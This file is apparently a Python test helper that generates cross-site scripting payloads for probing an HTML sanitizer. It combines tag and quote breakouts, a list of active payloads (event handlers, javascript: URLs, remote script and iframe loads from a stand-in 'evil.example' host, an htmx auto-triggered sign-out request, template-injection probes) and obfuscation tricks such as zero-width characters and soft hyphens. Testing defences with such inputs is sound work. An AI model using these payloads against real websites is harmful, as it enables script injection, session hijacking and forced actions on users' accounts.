"""What people write who want a script of theirs to run in the browser of whoever reads it. Made of parts: a way out of
where the text stands, something that would run or fetch, and a disguise.
"""

from collections.abc import Iterator
from itertools import product

EVIL = "http://evil.example"  # nobody's (RFC 6761); whatever asks for it is noticed
RUN = "alert(1)"

WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "</iframe>", "-->", "]]>", "</bdi></p>", "{{", "\\")

ACTIVE = (
    f"<script>{RUN}</script>",
    f"<script src={EVIL}/s.js></script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="{EVIL}/pixel.png">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><use href=data:image/svg+xml,{RUN}#x>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<style>@import '{EVIL}/s.css';</style>",
    f"<style>*{{background:url({EVIL}/b)}}</style>",
    f"<link rel=stylesheet href={EVIL}/l.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/m'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<base href={EVIL}/>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe src={EVIL}/i></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data={EVIL}/o></object>",
    f"<embed src={EVIL}/e>",
    f"<video src=x onerror={RUN} autoplay></video>",
    f"<audio src={EVIL}/a autoplay></audio>",
    f"<video poster={EVIL}/v></video>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<body onload={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action={EVIL}/f><input type=submit autofocus></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<a href=javascript:{RUN} autofocus>x</a>",
    f"<div hx-get={EVIL}/h hx-trigger=load>x</div>",
    f"<div hx-on:load={RUN} hx-trigger=load>x</div>",
    '<div hx-post=/sign-out hx-trigger=load hx-vals=\'{"where":"everywhere"}\'>x</div>',
    f"<template><img src=x onerror={RUN}></template>",
    f"<dialog open><img src=x onerror={RUN}></dialog>",
    f"<x style=animation-name:a onanimationstart={RUN}>",
    f"<td background={EVIL}/t>",
    f"<img srcset='{EVIL}/1x 1x'>",
    f"javascript:{RUN}",
    f"' onmouseover={RUN} x='",
    f'" autofocus onfocus={RUN} x="',
    f"{{{{ ''.__class__.__mro__ }}}}{{% raw %}}{RUN}",
    f"${{{RUN}}}#{{{RUN}}}",
)

DISGUISES = (
    lambda text: text,
    lambda text: text.upper().replace("ALERT(1)", "&#97;lert(1)"),
    lambda text: text.replace("<", "\u200b<"),
    lambda text: text.replace("onerror", "onerror\t").replace("script", "scr\u00adipt"),
    lambda text: text.replace("<", "＜<"),
)


def payloads(most: int) -> Iterator[str]:
    """Each part is among the first ones: the ways out and the disguises take turns."""
    whole = product(range(len(DISGUISES)), range(len(WAYS_OUT)), range(len(ACTIVE)))
    for number, (disguise, way, active) in enumerate(whole):
        if number == most:
            return
        turned = WAYS_OUT[(way + active) % len(WAYS_OUT)] + ACTIVE[active]
        yield DISGUISES[(disguise + active) % len(DISGUISES)](turned)
